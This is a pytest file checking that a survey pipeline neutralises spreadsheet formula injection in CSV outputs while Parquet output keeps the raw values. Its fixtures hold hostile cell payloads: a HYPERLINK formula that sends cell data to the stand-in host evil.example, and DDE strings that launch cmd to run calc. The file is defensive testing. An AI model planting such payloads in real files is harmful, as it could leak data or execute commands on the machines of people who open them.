"""Hostile names in the sample wave reach no CSV cell as a live formula, whichever stage wrote it.

Issue 9: "branch names/ids like =HYPERLINK(...), +cmd|..., @SUM(...) reach results/*.csv and study
tables verbatim. Neutralise cells starting with = + - @ \\t \\r in every CSV/XLSX written for
people, keeping Parquet exact." The sample wave gets hostile branch names and district ids, goes
through ingest → score → analyze → compare → study tables → paper, and every CSV written under
the output folders is read back cell by cell.
"""

from __future__ import annotations

import csv
import shutil

import pandas as pd
import pytest

from conftest import ROOT, SURVEYS

NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DISTRICTS = {"D06": "@SUM(1+1)*cmd|' /C calc'!A0", "D03": "+cmd|' /C calc'!A0", "D01": "-2+3+cmd|' /C calc'!A0"}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory):
    from analysis.pipeline import run_analyze_study, run_ingest, run_score
    from analysis.pipeline.paper import run_paper
    from analysis.pipeline.waves import run_compare_waves
    from analysis.report.study import export_study

    base = tmp_path_factory.mktemp("hostile")
    raw = base / "raw" / "h1"
    shutil.copytree(ROOT / "data" / "raw" / "sample", raw)
    branches = pd.read_csv(raw / "branches.csv", dtype=str)
    branches["营业厅名称"] = [NAME if i % 3 == 0 else f"\t=1+{i}" for i in range(len(branches))]
    branches["所属区局"] = branches["所属区局"].replace(DISTRICTS)
    branches.to_csv(raw / "branches.csv", index=False)
    (raw / "wave.yml").write_text((raw / "wave.yml").read_text(encoding="utf-8").replace("wave: sample", "wave: h1"),
                                  encoding="utf-8")
    raw2 = base / "raw" / "h2"
    shutil.copytree(raw, raw2)
    (raw2 / "wave.yml").write_text((raw / "wave.yml").read_text(encoding="utf-8").replace("wave: h1", "wave: h2"),
                                   encoding="utf-8")
    processed, output = base / "processed", base / "output"
    for folder, wave in ((raw, "h1"), (raw2, "h2")):
        run_ingest(folder, processed_root=processed, instruments_dir=SURVEYS, secret_file=base / "secret.key")
        run_score(processed / wave, instruments_dir=SURVEYS)
    run_analyze_study(SURVEYS / "study.yml", "h2", processed_root=processed, out_root=output, instruments_dir=SURVEYS)
    run_compare_waves("h2", "h1", processed_root=processed, out_root=output, instruments_dir=SURVEYS,
                      study_path=SURVEYS / "study.yml")
    export_study(output / "h2" / "results", output / "h2" / "study", study_path=SURVEYS / "study.yml",
                 formats=("csv",), figure_formats=())
    run_paper("h2", output_root=output, study_path=SURVEYS / "study.yml")
    return base


def test_no_csv_cell_starts_a_formula(hostile_outputs):
    files = sorted(hostile_outputs.rglob("*.csv"))
    written = {p.relative_to(hostile_outputs).parts[:3] for p in files if "raw" not in p.parts}
    assert {("output", "h2", "results"), ("output", "h2", "study"), ("output", "h2", "paper")} <= written
    assert any(p.name.startswith("waves_") for p in files) and (hostile_outputs / "processed" / "h1" / "quarantine.csv").is_file()
    seen = 0
    for path in files:
        if "raw" in path.relative_to(hostile_outputs).parts:
            continue  # the delivered exports, as hostile as they came
        with open(path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                live = [c for c in row if c.startswith(FORMULA) and not _number(c)]
                assert not live, f"{path}: {live}"
                seen += sum(NAME in c or any(d in c for d in DISTRICTS.values()) for c in row)
    assert seen > 0  # the hostile names did reach the CSVs, neutralised


def test_parquet_keeps_the_names_exactly(hostile_outputs):
    profiles = pd.read_parquet(hostile_outputs / "output" / "h2" / "results" / "branch_summary.parquet")
    text = profiles.astype(str).to_numpy().ravel().tolist()
    assert NAME in text or any(d in text for d in DISTRICTS.values())


def _number(cell: str) -> bool:
    from analysis.safe_export import neutralise

    return neutralise(cell) == cell
